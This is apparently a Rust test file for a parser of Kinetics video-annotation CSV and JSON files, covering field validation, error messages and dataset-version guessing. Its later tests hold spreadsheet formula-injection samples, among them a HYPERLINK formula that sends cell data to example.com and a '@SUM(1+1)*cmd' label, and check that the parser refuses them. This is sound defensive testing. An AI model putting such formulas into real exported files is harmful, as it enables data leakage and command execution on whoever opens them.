#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;

fn read(text: &str) -> Result<Annotations, Error> {
    parse("f.csv", text.as_bytes(), &ReadOptions::default())
}

fn field_error(text: &str) -> (u64, &'static str, FieldProblem) {
    match read(text).unwrap_err() {
        Error::Field {
            line,
            field,
            problem,
            ..
        } => (line, field, problem),
        other => panic!("expected a field error, got {other:?}"),
    }
}

const K400_HEADER: &str = "label,youtube_id,time_start,time_end,split,is_cc\n";

#[test]
fn reads_the_three_csv_layouts() {
    let k400 = read(&format!(
        "{K400_HEADER}abseiling,0wR5jVB-WPk,417,427,val,0\n"
    ))
    .unwrap();
    assert_eq!(
        k400.format,
        Format::Csv {
            labelled: true,
            is_cc: true
        }
    );
    let clip = k400.clips[0];
    assert_eq!(clip.youtube_id.as_str(), "0wR5jVB-WPk");
    assert_eq!(
        clip.segment,
        Segment {
            start_ms: 417_000,
            end_ms: 427_000
        }
    );
    assert_eq!(
        (k400.label(&clip), clip.split, clip.is_cc),
        (Some("abseiling"), Split::Val, Some(false))
    );

    let k600 =
        read("label,youtube_id,time_start,time_end,split\nabseiling,yq_M1PMw2hY,38,48,val\n")
            .unwrap();
    assert_eq!(
        k600.format,
        Format::Csv {
            labelled: true,
            is_cc: false
        }
    );
    assert_eq!(k600.clips[0].is_cc, None);

    let test = read("youtube_id,time_start,time_end,split\n--6bJUbfpnQ,17,27,test\n").unwrap();
    assert_eq!(
        test.format,
        Format::Csv {
            labelled: false,
            is_cc: false
        }
    );
    assert_eq!(
        (test.clips[0].label, test.clips[0].split),
        (None, Split::Test)
    );
    assert!(test.labels.is_empty());
}

#[test]
fn quoted_labels_crlf_bom_blank_lines_and_spaces() {
    let text = "\u{feff}label,youtube_id,time_start,time_end,split\r\n\
                \"air drumming\",--nQbRBEz2s,104,114,val\r\n\
                \r\n\
                \"tying knot (not on a tie)\",2cPLjY5AWXU,1,11,train\r\n\
                \"say \"\"hi\"\", twice\", 3K0Sw7rbzPU , 1.5 ,11.25, test\r\n";
    let annotations = read(text).unwrap();
    let labels: Vec<_> = annotations
        .clips
        .iter()
        .map(|c| annotations.label(c).unwrap())
        .collect();
    assert_eq!(
        labels,
        [
            "air drumming",
            "tying knot (not on a tie)",
            "say \"hi\", twice"
        ]
    );
    assert_eq!(annotations.clips[2].youtube_id.as_str(), "3K0Sw7rbzPU");
    assert_eq!(
        annotations.clips[2].segment,
        Segment {
            start_ms: 1500,
            end_ms: 11250
        }
    );
    assert_eq!(annotations.clips[1].split, Split::Train);
}

#[test]
fn columns_are_matched_by_name() {
    let text = "Split, YouTube_ID ,time_end,time_start,LABEL\nval,0wR5jVB-WPk,427,417,abseiling\n";
    let annotations = read(text).unwrap();
    assert_eq!(annotations.clips[0].segment.start_ms, 417_000);
    assert_eq!(annotations.label(&annotations.clips[0]), Some("abseiling"));
}

#[test]
fn repeated_ids_are_separate_clips() {
    let text = "label,youtube_id,time_start,time_end,split\n\
                a,xnC3nngvLCo,0,10,val\n\
                b,xnC3nngvLCo,20,30,val\n";
    let annotations = read(text).unwrap();
    assert_eq!(annotations.clips.len(), 2);
    assert_eq!(annotations.labels, ["a", "b"]);
}

#[test]
fn bad_number_names_line_and_field() {
    let text = format!(
        "{K400_HEADER}abseiling,0wR5jVB-WPk,417,427,val,0\nabseiling,3caPS4FHFF8,abc,46,val,0\n"
    );
    let error = read(&text).unwrap_err();
    assert_eq!(
        error.to_string(),
        r#"f.csv line 3, field time_start: "abc" is not a number"#
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,1,-4,val,0\n")),
        (2, "time_end", FieldProblem::OutOfRange("-4".into()))
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,1,inf,val,0\n")).2,
        FieldProblem::OutOfRange("inf".into())
    );
    assert_eq!(
        field_error(&format!(
            "{K400_HEADER}a,3caPS4FHFF8,5000000,5000010,val,0\n"
        ))
        .2,
        FieldProblem::OutOfRange("5000000".into())
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,20,10,val,0\n")),
        (
            2,
            "time_end",
            FieldProblem::EndBeforeStart {
                start_ms: 20_000,
                end_ms: 10_000
            }
        )
    );
}

#[test]
fn bad_id_split_flag() {
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF,1,11,val,0\n")),
        (
            2,
            "youtube_id",
            FieldProblem::InvalidYoutubeId("3caPS4FHFF".into())
        )
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FH#F8,1,11,val,0\n")).1,
        "youtube_id"
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,1,11,holdout,0\n")),
        (2, "split", FieldProblem::UnknownSplit("holdout".into()))
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,1,11,val,yes\n")),
        (2, "is_cc", FieldProblem::InvalidFlag("yes".into()))
    );
    let validate = read(&format!("{K400_HEADER}a,3caPS4FHFF8,1,11,Validate,1\n")).unwrap();
    assert_eq!(validate.clips[0].split, Split::Val);
}

#[test]
fn truncated_and_overlong_rows() {
    let truncated =
        format!("{K400_HEADER}abseiling,0wR5jVB-WPk,417,427,val,0\nabseiling,3caPS4FHFF8,4");
    assert_eq!(
        field_error(&truncated),
        (
            3,
            "time_end",
            FieldProblem::Missing {
                found: 3,
                expected: 6
            }
        )
    );
    assert_eq!(
        read(&truncated).unwrap_err().to_string(),
        "f.csv line 3, field time_end: missing: the row has 3 of 6 fields (truncated line?)"
    );
    assert_eq!(
        field_error(&format!("{K400_HEADER}a,3caPS4FHFF8,1,11,val,0,extra\n")),
        (
            2,
            "row",
            FieldProblem::Extra {
                found: 7,
                expected: 6
            }
        )
    );
}

#[test]
fn wrong_headers() {
    for (text, reason) in [
        (
            "label,youtube_id,start,end,split\n",
            "unknown column \"start\"",
        ),
        (
            "abseiling,0wR5jVB-WPk,417,427,val,0\n",
            "unknown column \"abseiling\"",
        ),
        (
            "label,youtube_id,time_start,time_end\n",
            "no \"split\" column",
        ),
        (
            "youtube_id,youtube_id,time_start,time_end,split\n",
            "column \"youtube_id\" appears twice",
        ),
    ] {
        match read(text).unwrap_err() {
            Error::Header {
                line, reason: r, ..
            } => {
                assert_eq!((line, r.as_str()), (1, reason), "{text}");
            }
            other => panic!("{text}: {other:?}"),
        }
    }
}

#[test]
fn empty_and_binary_files() {
    for text in ["", "\u{feff}", "  \n\r\n"] {
        assert_eq!(
            read(text).unwrap_err(),
            Error::Empty {
                file: "f.csv".into()
            }
        );
    }
    let garbage: Vec<u8> = b"label,you\x00\xff\xfe\x01garbage".to_vec();
    let error = parse("g.bin", &garbage, &ReadOptions::default()).unwrap_err();
    assert_eq!(
        error,
        Error::NotText {
            file: "g.bin".into(),
            line: 1,
            column: 10,
            byte: 0
        }
    );
    let latin1 = b"label,youtube_id,time_start,time_end,split\nd\xe9j\xe0,0wR5jVB-WPk,1,2,val\n";
    assert_eq!(
        parse("l.csv", latin1, &ReadOptions::default()).unwrap_err(),
        Error::NotText {
            file: "l.csv".into(),
            line: 2,
            column: 2,
            byte: 0xe9
        }
    );
}

#[test]
fn non_utf8_label_beyond_the_sniffed_start_is_a_field_error() {
    let mut text = K400_HEADER.to_owned();
    while text.len() < SNIFF_BYTES {
        text.push_str("abseiling,0wR5jVB-WPk,417,427,val,0\n");
    }
    let rows = text.lines().count() as u64;
    let mut bytes = text.into_bytes();
    bytes.extend_from_slice(b"d\xe9j\xe0,0wR5jVB-WPk,1,2,val,0\n");
    match parse("f.csv", &bytes, &ReadOptions::default()).unwrap_err() {
        Error::Field {
            line,
            field,
            problem,
            ..
        } => assert_eq!(
            (line, field, problem),
            (rows + 1, "label", FieldProblem::NotUtf8)
        ),
        other => panic!("{other:?}"),
    }
}

#[test]
fn skipping_counts_and_keeps_the_first_errors() {
    let text = format!(
        "{K400_HEADER}a,0wR5jVB-WPk,1,11,val,0\nb,bad,1,11,val,0\nc,3caPS4FHFF8,x,11,val,0\nd,3caPS4FHFF8,1,11,val,0\ne,3caPS4FHFF8,1,11,nope,0\n"
    );
    let options = ReadOptions {
        skip_bad_rows: true,
        keep_errors: 2,
    };
    let annotations = parse("f.csv", text.as_bytes(), &options).unwrap();
    assert_eq!(annotations.clips.len(), 2);
    assert_eq!(annotations.skipped.rows, 3);
    let lines: Vec<u64> = annotations
        .skipped
        .first_errors
        .iter()
        .map(|e| match e {
            Error::Field { line, .. } => *line,
            _ => 0,
        })
        .collect();
    assert_eq!(lines, [3, 4]);
    assert_eq!(annotations.labels, ["a", "d"], "bad rows add no labels");
}

#[test]
fn json_layout() {
    let json = r#"{
    "---QUuC4vJs": {
        "annotations": {
            "label": "testifying",
            "segment": [
                84.0,
                94.0
            ]
        },
        "duration": 10.0,
        "subset": "train",
        "url": "https://www.youtube.com/watch?v=---QUuC4vJs"
    },
    "--3ouPhoy2A": {"annotations": {"label": "eating spaghetti", "segment": [20.0, 30.0]}, "duration": 10.0, "subset": "validate", "url": "x"},
    "--3ouPhoy2A": {"annotations": {"label": "", "segment": [40, 50.5]}, "subset": "test"}
}"#;
    let annotations = parse("k.json", json.as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(annotations.format, Format::Json);
    assert_eq!(
        annotations.clips.len(),
        3,
        "a repeated key is a second clip"
    );
    let c = &annotations.clips;
    assert_eq!(annotations.label(&c[0]), Some("testifying"));
    assert_eq!((c[0].segment.start_ms, c[0].split), (84_000, Split::Train));
    assert_eq!(c[1].split, Split::Val);
    assert_eq!(
        (c[2].label, c[2].segment.end_ms, c[2].split),
        (None, 50_500, Split::Test)
    );
}

#[test]
fn json_errors_name_line_and_field() {
    let json = "{\n  \"0wR5jVB-WPk\": {\"annotations\": {\"label\": \"a\", \"segment\": [1, 11]}, \"subset\": \"train\"},\n  \"0wR5jVB-WPk\": {\"annotations\": {\"label\": \"a\", \"segment\": [\"abc\", 11]}, \"subset\": \"train\"}\n}";
    let error = parse("k.json", json.as_bytes(), &ReadOptions::default()).unwrap_err();
    assert_eq!(
        error.to_string(),
        r#"k.json line 3, field annotations.segment: "abc" is not a number"#
    );
    let bad_key = "{\n\n  \"short\": {\"annotations\": {\"label\": \"a\", \"segment\": [1, 11]}, \"subset\": \"train\"}}";
    assert_eq!(
        parse("k.json", bad_key.as_bytes(), &ReadOptions::default())
            .unwrap_err()
            .to_string(),
        r#"k.json line 3, field youtube_id: "short" is not a YouTube id (11 characters from A-Z, a-z, 0-9, _ and -)"#
    );
    let bad_subset = r#"{"0wR5jVB-WPk": {"annotations": {"label": "a", "segment": [1, 11]}, "subset": "holdout"}}"#;
    assert!(matches!(
        parse("k.json", bad_subset.as_bytes(), &ReadOptions::default()).unwrap_err(),
        Error::Field {
            field: "subset",
            ..
        }
    ));
    let skipped = parse("k.json", json.as_bytes(), &ReadOptions::skipping()).unwrap();
    assert_eq!((skipped.clips.len(), skipped.skipped.rows), (1, 1));
    // A number beyond f64 is an error of its entry, on the entry's line, and can be skipped.
    let huge = "{\n  \"0wR5jVB-WPk\": {\"annotations\": {\"label\": \"a\", \"segment\": [1, 11]}, \"subset\": \"train\"},\n  \"1wR5jVB-WPk\": {\"annotations\": {\"label\": \"a\", \"segment\": [1e400, 11]}, \"subset\": \"train\"}\n}";
    let error = parse("k.json", huge.as_bytes(), &ReadOptions::default()).unwrap_err();
    assert!(
        error
            .to_string()
            .starts_with("k.json line 3, field entry: expected an entry whose numbers fit"),
        "{error}"
    );
    let skipped = parse("k.json", huge.as_bytes(), &ReadOptions::skipping()).unwrap();
    assert_eq!((skipped.clips.len(), skipped.skipped.rows), (1, 1));
}

#[test]
fn broken_json() {
    let truncated = "{\"0wR5jVB-WPk\": {\"annotations\": {\"label\": \"a\", \"segm";
    match parse("k.json", truncated.as_bytes(), &ReadOptions::default()).unwrap_err() {
        Error::Json { line, message, .. } => {
            assert_eq!(line, 1);
            assert!(message.contains("EOF"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    match parse("k.json", b"[1, 2]", &ReadOptions::default()).unwrap_err() {
        Error::Json { message, .. } => assert!(
            message.contains("expected an object mapping YouTube ids"),
            "{message}"
        ),
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        parse("k.json", b"{} x", &ReadOptions::default()).unwrap_err(),
        Error::Json { .. }
    ));
}

#[test]
fn guesses_versions() {
    let k400 =
        read("label,youtube_id,time_start,time_end,split\ndying hair,0wR5jVB-WPk,1,11,val\n")
            .unwrap();
    assert_eq!(k400.guess_version(), Some(Version::K400));
    let k600 =
        read("label,youtube_id,time_start,time_end,split\ndyeing hair,0wR5jVB-WPk,1,11,val\n")
            .unwrap();
    assert_eq!(k600.guess_version(), Some(Version::K600));
    let k700 =
        read("label,youtube_id,time_start,time_end,split\nsome new class,0wR5jVB-WPk,1,11,val\n")
            .unwrap();
    assert_eq!(k700.guess_version(), None);
    let both = "label,youtube_id,time_start,time_end,split\nabseiling,0wR5jVB-WPk,1,11,val\n";
    assert_eq!(read(both).unwrap().guess_version(), None);
    let named = parse(
        "data/kinetics-600_val.csv",
        both.as_bytes(),
        &ReadOptions::default(),
    )
    .unwrap();
    assert_eq!(named.guess_version(), Some(Version::K600));
    let test = parse(
        "kinetics-400_test.csv",
        b"youtube_id,time_start,time_end,split\n",
        &ReadOptions::default(),
    )
    .unwrap();
    assert_eq!(test.guess_version(), Some(Version::K400));
}

/// Labels a spreadsheet would run as formulas, as written in a CSV field, and as read (trimmed).
const FORMULA_LABELS: [(&str, &str); 6] = [
    (
        r#""=HYPERLINK(""http://example.com/?""&B2,""open"")""#,
        r#"=HYPERLINK("http://example.com/?"&B2,"open")"#,
    ),
    ("@SUM(1+1)*cmd", "@SUM(1+1)*cmd"),
    ("+1+1", "+1+1"),
    ("-2+3", "-2+3"),
    // A leading tab or carriage return is trimmed like other spaces, and the formula behind it is seen.
    ("\"\t=1+1\"", "=1+1"),
    ("\"\r=1+1\"", "=1+1"),
];

#[test]
fn formula_like_labels_are_refused_with_their_line() {
    for (field, label) in FORMULA_LABELS {
        let text = format!(
            "{K400_HEADER}abseiling,0wR5jVB-WPk,417,427,val,0\n{field},3caPS4FHFF8,36,46,val,0\n"
        );
        assert_eq!(
            field_error(&text),
            (
                3,
                "label",
                FieldProblem::FormulaLabel {
                    label: label.into(),
                    entry: None
                }
            ),
            "{field}"
        );
        let skipped = parse("f.csv", text.as_bytes(), &ReadOptions::skipping()).unwrap();
        assert_eq!(
            (skipped.labels.as_slice(), skipped.skipped.rows),
            (["abseiling".to_owned()].as_slice(), 1),
            "{field}"
        );
    }
    assert_eq!(
        read(&format!("{K400_HEADER}+1+1,3caPS4FHFF8,36,46,val,0\n"))
            .unwrap_err()
            .to_string(),
        "f.csv line 2, field label: \"+1+1\": a label may not begin with =, +, -, @, a tab or a \
         carriage return (a spreadsheet would run it as a formula); no official Kinetics label does"
    );
    // Inside a label these characters are harmless, and official labels use `-` and `(`.
    let fine = read(&format!(
        "{K400_HEADER}\"pull ups (x=1+1)\",3caPS4FHFF8,36,46,val,0\nt-shirt @ 2,3caPS4FHFF8,1,11,val,0\n"
    ))
    .unwrap();
    assert_eq!(fine.labels, ["pull ups (x=1+1)", "t-shirt @ 2"]);
}

#[test]
fn formula_like_json_labels_are_refused_with_their_line_and_entry() {
    for (_, label) in FORMULA_LABELS {
        let quoted = serde_json::to_string(label).unwrap();
        let json = format!(
            "{{\n  \"0wR5jVB-WPk\": {{\"annotations\": {{\"label\": \"a\", \"segment\": [1, 11]}}, \"subset\": \"train\"}},\n  \"3caPS4FHFF8\": {{\"annotations\": {{\"label\": {quoted}, \"segment\": [1, 11]}}, \"subset\": \"train\"}}\n}}"
        );
        let error = parse("k.json", json.as_bytes(), &ReadOptions::default()).unwrap_err();
        assert_eq!(
            error,
            Error::Field {
                file: "k.json".into(),
                line: 3,
                field: "annotations.label",
                problem: FieldProblem::FormulaLabel {
                    label: label.into(),
                    entry: Some(YoutubeId::parse("3caPS4FHFF8").unwrap()),
                },
            },
            "{label:?}"
        );
        let skipped = parse("k.json", json.as_bytes(), &ReadOptions::skipping()).unwrap();
        assert_eq!((skipped.labels.len(), skipped.skipped.rows), (1, 1));
    }
    let one_line = r#"{"0wR5jVB-WPk": {"annotations": {"label": "@SUM(1+1)*cmd", "segment": [1, 11]}, "subset": "train"}}"#;
    assert_eq!(
        parse("k.json", one_line.as_bytes(), &ReadOptions::default())
            .unwrap_err()
            .to_string(),
        "k.json line 1, field annotations.label: \"@SUM(1+1)*cmd\" (entry \"0wR5jVB-WPk\"): a label may \
         not begin with =, +, -, @, a tab or a carriage return (a spreadsheet would run it as a \
         formula); no official Kinetics label does"
    );
}

#[test]
fn formula_leads() {
    for label in ["=1", "+1", "-1", "@a", "\tx", "\rx"] {
        assert!(is_formula_like(label), "{label:?}");
    }
    for label in ["", "abseiling", "t-shirt", " =1", "\u{ff1d}1", "(=1)"] {
        assert!(!is_formula_like(label), "{label:?}");
    }
}
